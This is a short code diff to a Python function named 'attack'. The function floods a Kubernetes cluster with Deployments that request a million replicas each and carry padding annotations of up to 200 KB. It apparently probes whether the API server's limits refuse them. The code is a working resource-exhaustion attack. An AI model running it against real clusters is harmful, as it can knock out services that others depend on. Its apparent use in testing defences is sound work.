@@ -13,9 +13,9 @@ def attack(client):
     template = {"metadata": {"labels": labels}, "spec": {"containers": [{"name": "a", "image": "registry.example/a"}]}}
     spec = {"replicas": 1_000_000, "selector": {"matchLabels": labels}, "template": template}
     made, refused = 0, ""
-    for number in range(60):
+    for number in range(120):
         metadata = {"name": f"flood-{number}", "namespace": client.namespace}
-        metadata["annotations"] = {"filler": "x" * 200_000}
+        metadata["annotations"] = {"filler": "x" * (200_000 if number < 60 else 20_000)}
         deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata, "spec": spec}
         try:
             client.create(deployment)
@@ -23,4 +23,4 @@ def attack(client):
         except ApiError as error:
             refused = str(error)
     if not refused:
-        print("GOT 60 Deployments of 200 KB, and", made, "million Pods")
+        print("GOT Deployments of 200 KB, and", made, "million Pods")
